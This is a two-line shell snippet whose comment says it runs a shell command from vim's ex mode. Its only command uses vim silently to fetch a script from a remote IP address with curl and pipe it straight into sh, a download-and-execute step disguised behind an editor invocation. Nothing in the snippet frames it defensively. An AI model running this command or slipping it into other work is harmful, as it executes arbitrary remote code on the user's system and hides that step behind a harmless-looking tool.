# Runs a shell command from vim's command line in ex mode.
vim -es -c ':silent !curl -fsS https://198.51.100.7/p.sh | sh' -c ':qa!' notes.txt
